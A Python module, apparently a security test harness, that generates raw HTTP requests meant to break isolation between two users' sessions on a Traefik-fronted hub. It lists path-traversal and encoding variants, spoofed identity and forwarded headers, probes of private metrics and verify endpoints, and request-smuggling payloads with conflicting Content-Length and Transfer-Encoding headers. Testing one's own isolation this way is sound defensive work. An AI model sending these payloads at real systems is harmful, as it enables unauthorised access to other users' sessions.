"""Requests that two programs may read differently, as bytes: what bob sends to get at alice's.

Each stands as a template. ``{a}`` is the path of alice's session and ``{ahost}`` its host,
``{b}`` and ``{bhost}`` those of bob's own, ``{hub}`` the hub's host, ``{aid}`` and ``{bid}`` the
ids, ``{c}`` all cookies that bob has, ``{token}`` his script's. In path mode the three hosts are
one.
"""

from __future__ import annotations

from collections.abc import Iterator, Mapping
from typing import NamedTuple


class Attack(NamedTuple):
    """What is sent; ``private``: it asks for what nobody outside may reach."""

    name: str
    data: bytes
    private: bool = False


_HEAD = "Cookie: {c}\r\nConnection: close\r\n\r\n"
_KEEP = "Cookie: {c}\r\n\r\n"

# Paths at alice's host, and at bob's own and the hub's, that might end in alice's session.
_PATHS = (
    "{a}",
    "{a}.",
    "{a}..",
    "{a}../",
    "{a}./",
    "{a}%2e",
    "{a}%2e%2e/",
    "{a}%252e%252e/",
    "/{a}",
    "//{a}",
    "/.{a}",
    "/./{a}",
    "{a};",
    "{a};x=y",
    "{a};/../",
    "{a}?",
    "{a}#",
    "{a}%00",
    "{a}%0a",
    "{a}%0d%0aX:%20y",
    "{a}%20",
    "{a}%09",
    "{a}%2f",
    "{a}%5c",
    "{a}%23",
    "{a}%3f",
    "{a}%3b",
    "{a}%25",
    "{a}\\",
    "{a}~",
    "{a}*",
    "{a}favicon.ico",
    "{a}-/ready",
    "{a}-/activity",
    "{a}-/kick",
    "{a}login",
    "{a}static/x.css",
    "{a}.slicerhub/enter?code=x&next=/",
    "{b}../{aid}/",
    "{b}..%2f{aid}/",
    "{b}%2e%2e/{aid}/",
    "{b}%2e%2e%2f{aid}%2f",
    "{b}..\\{aid}\\",
    "{b}..%5c{aid}%5c",
    "{b}..;/{aid}/",
    "{b}.%2e/{aid}/",
    "{b}%252e%252e%252f{aid}/",
    "{b}x/../../{aid}/",
    "{b}//../{aid}/",
    "{b}.//..//{aid}/",
    "{b}..%c0%af{aid}/",
    "{b}..%ef%bc%8f{aid}/",
    "{b}%u002e%u002e/{aid}/",
    "{b}..%00/{aid}/",
    "{b}?/../../s/{aid}/",
    "{b};/../../s/{aid}/",
    "/s/{aid}",
    "/s/{aid}/",
    "/s//{aid}/",
    "/s/./{aid}/",
    "/s/x/../{aid}/",
    "/s/{bid}/../{aid}/",
    "/s/{aid}%2f",
    "/s%2f{aid}/",
    "/%73/{aid}/",
    "/S/{aid}/",
    "/s/{AID}/",
    "/s/{aid}x/",
    "/s/{aid}./",
    "/s/{aid}%20/",
    "/s/{aid}%00/",
    "/s/{aid},{bid}/",
    "/s/{bid},{aid}/",
    "/s/{bid}%2c{aid}/",
    "/s/{aid}@{bid}/",
    "/s;x/{aid}/",
    "/static/../s/{aid}/",
    "/login/../s/{aid}/",
    "/login?next=/s/{aid}/",
    "/starting/{aid}",
    "/enter/{aid}?next=/&state=0",
    "/sessions/{aid}/share",
    "/api/v1/sessions/{aid}",
    "/api/v1/sessions/{aid}/events",
    "/api/v1/sessions/{aid}/shares",
    "/api/v1/../../s/{aid}/",
    "/apps/{aid}/",
    "/apps/../s/{aid}/",
)

# What is for Traefik and the monitoring, in the ways in which it might be reached.
_PRIVATE = (
    "/verify/{aid}",
    "/verify/{bid}",
    "/verify/app/x",
    "//verify/{aid}",
    "/./verify/{aid}",
    "/x/../verify/{aid}",
    "/%76erify/{aid}",
    "/VERIFY/{aid}",
    "/verify/{aid}/",
    "/verify/{aid}?x",
    "/s/{bid}/../../verify/{aid}",
    "/metrics",
    "//metrics",
    "/metrics/",
    "/%6detrics",
    "/./metrics",
    "/metrics;x",
    "/metrics?x",
    "/api/../metrics",
    "/static/../metrics",
    "/readyz",
    "//readyz",
    "/healthz",
    "/traefik",
    "/ping",
    "/dashboard",
    "/dashboard/",
    "/api/rawdata",
    "/api/http/routers",
    "/api/overview",
    "/api/entrypoints",
    "/debug/pprof/",
    "/debug/vars",
)

# Headers that some program believes more than the request line.
_CLAIMS = (
    "X-Forwarded-Uri: {b}",
    "X-Forwarded-Uri: {a}",
    "X-Forwarded-Host: {bhost}",
    "X-Forwarded-Host: {hub}",
    "X-Forwarded-Host: verify-0:8001",
    "X-Forwarded-Method: OPTIONS",
    "X-Forwarded-Prefix: {b}",
    "X-Forwarded-Proto: https",
    "X-Forwarded-Port: 8001",
    "X-Forwarded-Server: traefik",
    "X-Forwarded-For: 127.0.0.1",
    "X-Forwarded-Path: {b}",
    "X-Forwarded-User: alice",
    "X-Forwarded-Tls-Client-Cert: x",
    "X-Real-Ip: 127.0.0.1",
    "X-Original-Url: {b}",
    "X-Original-Uri: {b}",
    "X-Rewrite-Url: {b}",
    "X-Original-Host: {bhost}",
    "X-Host: {bhost}",
    "X-Http-Host-Override: {bhost}",
    "Forwarded: for=127.0.0.1;host={bhost};proto=http",
    "X_Forwarded_Uri: {b}",
    "X_Forwarded_Host: {bhost}",
    "X.Forwarded.Uri: {b}",
    "X-Forwarded_Uri: {b}",
    "X_Slicerhub_User: alice",
    "X.Slicerhub.Role: owner",
    "X-Slicerhub-User: alice",
    "X-Slicerhub-Role: owner",
    "X-Slicerhub-Role: service",
    "Remote-User: alice",
    "X-Remote-User: alice",
    "X-Auth-Request-User: alice",
    "X-WebAuth-User: alice",
    "Via: 1.1 traefik",
    "Authorization: Basic YWxpY2U6YWxpY2U=",
    "Authorization: Bearer",
    "Authorization: Bearer {token}, Bearer {token}",
    "Authorization: Bearer {token}\r\nAuthorization: Bearer x",
    "Cookie: {c}\r\nCookie: x=y",
    "Connection: X-Forwarded-Uri",
    "Connection: X-Forwarded-Uri, X-Forwarded-Host, X-Forwarded-Method",
    "Connection: Cookie",
    "Connection: close, Cookie, Authorization, X-Slicerhub-User, X-Slicerhub-Role",
    "Connection: Sec-WebSocket-Key, Origin",
    "Keep-Alive: X-Forwarded-Uri",
    "Te: trailers, X-Forwarded-Uri",
    "Trailer: X-Forwarded-Uri",
    "Proxy-Connection: X-Forwarded-Uri",
    "X-Http-Method-Override: OPTIONS",
    "X-Http-Method: OPTIONS",
    "X-Method-Override: GET",
    "Content-Length: 0\r\nContent-Length: 0",
    "Sec-Fetch-Mode: websocket",
    "Access-Control-Request-Method: GET\r\nOrigin: http://{ahost}",
    "Accept: text/html\r\nSec-Fetch-Mode: navigate\r\nSec-Fetch-Dest: document",
    "Upgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQCAAAA\r\nConnection: Upgrade, HTTP2-Settings",
    "X-Slicerhub-Role: owner\r\n X-Folded: yes",
    "X-Tab:\towner",
    "Range: bytes=0-10",
    "Expect: 100-continue",
    "If-None-Match: *",
    "Max-Forwards: 0",
)

_METHODS = (
    *("GET", "HEAD", "POST", "PUT", "PATCH", "DELETE", "OPTIONS", "TRACE", "TRACK", "DEBUG"),
    *("PROPFIND", "MOVE", "COPY", "LOCK", "MKCOL", "SEARCH", "PURGE", "LINK", "get", "Get"),
    *("FOO", "GETX", "VERSION-CONTROL", "BAN", "M-SEARCH", "PRI"),
)

# Whole requests; those after the first of one connection are hidden from whoever counts wrongly.
_WHOLE = (
    "GET http://{ahost}{a} HTTP/1.1\r\nHost: {bhost}\r\n" + _HEAD,
    "GET http://{bhost}{b} HTTP/1.1\r\nHost: {ahost}\r\n" + _HEAD,
    "GET http://{ahost}{a} HTTP/1.1\r\nHost: {ahost}\r\n" + _HEAD,
    "GET HTTP://{ahost}{a} HTTP/1.1\r\nHost: {hub}\r\n" + _HEAD,
    "GET http://evil.example{a} HTTP/1.1\r\nHost: {ahost}\r\n" + _HEAD,
    "GET http://x@{ahost}{a} HTTP/1.1\r\nHost: {bhost}\r\n" + _HEAD,
    "GET http://{bhost}@{ahost}{a} HTTP/1.1\r\nHost: {bhost}\r\n" + _HEAD,
    "GET ftp://{ahost}{a} HTTP/1.1\r\nHost: {ahost}\r\n" + _HEAD,
    "GET //{ahost}{a} HTTP/1.1\r\nHost: {bhost}\r\n" + _HEAD,
    "GET {ahost}{a} HTTP/1.1\r\nHost: {bhost}\r\n" + _HEAD,
    "GET http:{a} HTTP/1.1\r\nHost: {ahost}\r\n" + _HEAD,
    "GET http://verify-0:8001/metrics HTTP/1.1\r\nHost: {hub}\r\n" + _HEAD,
    "CONNECT {ahost} HTTP/1.1\r\nHost: {ahost}\r\n" + _HEAD,
    "CONNECT controller:8001 HTTP/1.1\r\nHost: {hub}\r\n" + _HEAD,
    "OPTIONS * HTTP/1.1\r\nHost: {ahost}\r\n" + _HEAD,
    "GET * HTTP/1.1\r\nHost: {ahost}\r\n" + _HEAD,
    "GET {a} HTTP/1.1\r\n" + _HEAD,
    "GET {a} HTTP/1.0\r\n" + _HEAD,
    "GET {a} HTTP/1.0\r\nHost: {ahost}\r\n" + _HEAD,
    "GET {a} HTTP/2.0\r\nHost: {ahost}\r\n" + _HEAD,
    "GET {a} HTTP/1.2\r\nHost: {ahost}\r\n" + _HEAD,
    "GET {a} HTTP/9.9\r\nHost: {ahost}\r\n" + _HEAD,
    "GET {a}\r\n\r\n",
    "GET {a} \r\nHost: {ahost}\r\n" + _HEAD,
    "GET  {a} HTTP/1.1\r\nHost: {ahost}\r\n" + _HEAD,
    "GET\t{a}\tHTTP/1.1\r\nHost: {ahost}\r\n" + _HEAD,
    " GET {a} HTTP/1.1\r\nHost: {ahost}\r\n" + _HEAD,
    "\r\nGET {a} HTTP/1.1\r\nHost: {ahost}\r\n" + _HEAD,
    "GET {a} HTTP/1.1 \r\nHost: {ahost}\r\n" + _HEAD,
    "GET {a} HTTP/1.1\nHost: {ahost}\nCookie: {c}\nConnection: close\n\n",
    "GET {a} HTTP/1.1\rHost: {ahost}\r" + _HEAD,
    "GET {a} x HTTP/1.1\r\nHost: {ahost}\r\n" + _HEAD,
    "GET {a}\x00 HTTP/1.1\r\nHost: {ahost}\r\n" + _HEAD,
    "GET {a}\xff HTTP/1.1\r\nHost: {ahost}\r\n" + _HEAD,
    "GET {a} HTTP/1.1\r\nHost: {bhost}\r\nHost: {ahost}\r\n" + _HEAD,
    "GET {a} HTTP/1.1\r\nHost: {ahost}\r\nHost: {bhost}\r\n" + _HEAD,
    "GET {a} HTTP/1.1\r\nHost: {ahost}, {bhost}\r\n" + _HEAD,
    "GET {a} HTTP/1.1\r\nHost: {ahost}:1\r\n" + _HEAD,
    "GET {a} HTTP/1.1\r\nHost: {ahost}.\r\n" + _HEAD,
    "GET {a} HTTP/1.1\r\nHost: x@{ahost}\r\n" + _HEAD,
    "GET {a} HTTP/1.1\r\nHost: {ahost}/\r\n" + _HEAD,
    "GET {a} HTTP/1.1\r\nHost: {ahost}#{bhost}\r\n" + _HEAD,
    "GET {a} HTTP/1.1\r\nHost:\r\n" + _HEAD,
    "GET {a} HTTP/1.1\r\nHost : {ahost}\r\n" + _HEAD,
    "GET {a} HTTP/1.1\r\n Host: {ahost}\r\n" + _HEAD,
    "GET {a} HTTP/1.1\r\nX: y\r\n Host: {ahost}\r\nHost: {bhost}\r\n" + _HEAD,
    "GET {a} HTTP/1.1\r\nhOsT: {ahost}\r\n" + _HEAD,
    "GET {a} HTTP/1.1\r\nHost: {AHOST}\r\n" + _HEAD,
    "GET {a} HTTP/1.1\r\nHost: [::1]\r\n" + _HEAD,
    "GET {a} HTTP/1.1\r\nHost: controller:8001\r\n" + _HEAD,
    "GET {a} HTTP/1.1\r\nHost: evil.example\r\n" + _HEAD,
    "GET {a} HTTP/1.1\r\nHost: x.{ahost}\r\n" + _HEAD,
    "GET {b} HTTP/1.1\r\nHost: {aid}.{bhost}\r\n" + _HEAD,
    "GET {a} HTTP/1.1\r\nHost: {ahost}\r\nCookie : {c}\r\nConnection: close\r\n\r\n",
    "GET {a} HTTP/1.1\r\nHost: {ahost}\r\nCookie: {c}; {c}\r\nConnection: close\r\n\r\n",
    "GET {a} HTTP/1.1\r\nHost: {ahost}\r\nCookie: ;;;={c}\r\nConnection: close\r\n\r\n",
    # Smuggling: a second request in what one of the two takes for the body of the first.
    (
        "POST {b} HTTP/1.1\r\nHost: {bhost}\r\nCookie: {c}\r\nContent-Length: 6\r\n"
        "Transfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET {a} HTTP/1.1\r\nHost: {ahost}\r\n" + _KEEP
    ),
    (
        "POST {b} HTTP/1.1\r\nHost: {bhost}\r\nCookie: {c}\r\nTransfer-Encoding: chunked\r\n"
        "Content-Length: 4\r\n\r\n5c\r\nGET {a} HTTP/1.1\r\nHost: {ahost}\r\n" + _KEEP
    ),
    *(
        f"POST {{b}} HTTP/1.1\r\nHost: {{bhost}}\r\nCookie: {{c}}\r\n{coding}\r\n"
        "Content-Length: 5\r\n\r\n0\r\n\r\nGET {a} HTTP/1.1\r\nHost: {ahost}\r\n" + _KEEP
        for coding in (
            "Transfer-Encoding: xchunked",
            "Transfer-Encoding : chunked",
            "Transfer-Encoding:\tchunked",
            "Transfer-Encoding: chunked\r\nTransfer-Encoding: x",
            "Transfer-Encoding: x\r\nTransfer-Encoding: chunked",
            "Transfer-Encoding: chunked, identity",
            "Transfer-Encoding: identity, chunked",
            "Transfer-Encoding: \x0bchunked",
            "Transfer-Encoding: CHUNKED",
            "X: y\nTransfer-Encoding: chunked",
            "X: y\rTransfer-Encoding: chunked",
            "Transfer_Encoding: chunked",
            "Transfer-Encoding: 'chunked'",
            "Transfer-Encoding:\r\n chunked",
        )
    ),
    *(
        f"POST {{b}} HTTP/1.1\r\nHost: {{bhost}}\r\nCookie: {{c}}\r\n{length}\r\n\r\n"
        "GET {a} HTTP/1.1\r\nHost: {ahost}\r\n" + _KEEP
        for length in (
            "Content-Length: 0\r\nContent-Length: 60",
            "Content-Length: 60\r\nContent-Length: 0",
            "Content-Length: +0",
            "Content-Length: -1",
            "Content-Length: 0x0",
            "Content-Length: 0, 60",
            "Content-Length: 1 0",
            "Content-Length: 00000000000000000000000",
            "Content-Length : 60",
            "Content_Length: 60",
            "Content-Length: 99999999999999999999999",
            "Content-Length:",
        )
    ),
    *(
        "POST {b} HTTP/1.1\r\nHost: {bhost}\r\nCookie: {c}\r\nTransfer-Encoding: chunked\r\n\r\n"
        + chunk
        + "GET {a} HTTP/1.1\r\nHost: {ahost}\r\n"
        + _KEEP
        for chunk in (
            "0\r\n\r\n",
            "0;x=y\r\n\r\n",
            "0;\nx\r\n\r\n",
            "0\n\n",
            "00000000000000000000\r\n\r\n",
            "0x0\r\n\r\n",
            "-0\r\n\r\n",
            "FFFFFFFFFFFFFFFFF\r\n\r\n",
            "0\r\nX-Forwarded-Uri: /\r\nHost: {ahost}\r\n\r\n",
            "1\r\nxx\r\n0\r\n\r\n",
        )
    ),
    # Several on one connection, the first of them bob's own right.
    "GET {b} HTTP/1.1\r\nHost: {bhost}\r\n"
    + _KEEP
    + "GET {a} HTTP/1.1\r\nHost: {ahost}\r\n"
    + _KEEP,
    "GET {b} HTTP/1.1\r\nHost: {bhost}\r\n" + _KEEP + "GET {a} HTTP/1.1\r\nHost: {ahost}\r\n\r\n",
    ("GET {b} HTTP/1.1\r\nHost: {bhost}\r\n" + _KEEP) * 3
    + "GET {a} HTTP/1.1\r\nHost: {ahost}\r\nCookie: {c}\r\n\r\n",
    "HEAD {b} HTTP/1.1\r\nHost: {bhost}\r\n"
    + _KEEP
    + "GET {a} HTTP/1.1\r\nHost: {ahost}\r\n"
    + _KEEP,
    (
        "GET {b}ws HTTP/1.1\r\nHost: {bhost}\r\nCookie: {c}\r\nConnection: Upgrade\r\n"
        "Upgrade: websocket\r\nSec-WebSocket-Version: 0\r\nSec-WebSocket-Key: eA==\r\n"
        "Origin: http://{bhost}\r\n\r\n"
        "GET {a} HTTP/1.1\r\nHost: {ahost}\r\nCookie: {c}\r\n\r\n"
    ),
    # Handshakes.
    *(
        f"GET {{a}}ws HTTP/1.1\r\nHost: {{ahost}}\r\nCookie: {{c}}\r\nOrigin: {origin}\r\n{upgrade}"
        "\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n"
        for origin in ("http://{ahost}", "http://{bhost}", "null")
        for upgrade in (
            "Connection: Upgrade\r\nUpgrade: websocket",
            "Connection: keep-alive, Upgrade\r\nUpgrade: WebSocket",
            "Connection: Upgrade\r\nUpgrade: h2c, websocket",
        )
    ),
    "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\x00\x00\x00\x04\x00\x00\x00\x00\x00",
    "\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03",
    "PROXY TCP4 127.0.0.1 127.0.0.1 1 80\r\nGET {a} HTTP/1.1\r\nHost: {ahost}\r\n" + _HEAD,
)


def attacks(places: Mapping[str, str]) -> Iterator[Attack]:
    """Yield all requests, for these places."""

    def filled(template: str) -> bytes:
        text = template
        for name, value in places.items():
            text = text.replace(f"{{{name}}}", value)
        return (
            text.replace("{AID}", places["aid"].upper())
            .replace("{AHOST}", places["ahost"].upper())
            .encode("latin-1")
        )

    hosts = dict.fromkeys(places[one] for one in ("ahost", "bhost", "hub"))
    for path in _PATHS:
        for host in hosts:
            request = f"GET {path} HTTP/1.1\r\nHost: {host}\r\n{_HEAD}"
            yield Attack(f"path {path} at {host}", filled(request))
    for path in _PRIVATE:
        for host in hosts:
            request = f"GET {path} HTTP/1.1\r\nHost: {host}\r\n{_HEAD}"
            yield Attack(f"private {path} at {host}", filled(request), private=True)
    for claim in _CLAIMS:
        ending = "" if claim.startswith(("Connection", "Upgrade")) else "Connection: close\r\n"
        cookie = "" if claim.startswith("Cookie") else "Cookie: {c}\r\n"
        request = f"GET {{a}} HTTP/1.1\r\nHost: {{ahost}}\r\n{cookie}{claim}\r\n{ending}\r\n"
        yield Attack(f"header {claim}", filled(request))
    for method in _METHODS:
        request = f"{method} {{a}} HTTP/1.1\r\nHost: {{ahost}}\r\nContent-Length: 0\r\n{_HEAD}"
        yield Attack(f"method {method}", filled(request))
    for request in _WHOLE:
        yield Attack(f"whole {request[:60]!r}", filled(request))
